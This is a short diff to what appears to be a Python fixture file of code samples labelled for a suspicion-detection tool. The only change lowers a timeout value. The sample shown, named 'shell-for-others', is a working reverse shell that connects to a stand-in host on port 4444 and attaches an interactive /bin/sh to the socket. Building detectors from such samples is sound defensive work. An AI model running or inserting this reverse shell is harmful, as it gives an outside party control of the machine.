@@ -196,7 +196,7 @@ _OTHERS = (
     Sample(
         name="shell-for-others",
         code="import socket, subprocess\ns = socket.create_connection(('203.0.113.8', 4444))\n"
-        "subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s, timeout=5)",
+        "subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s, timeout=2)",
         kind=Kind.NETWORK,
         tier=Tier.SUSPICION,
         says="203.0.113.8",
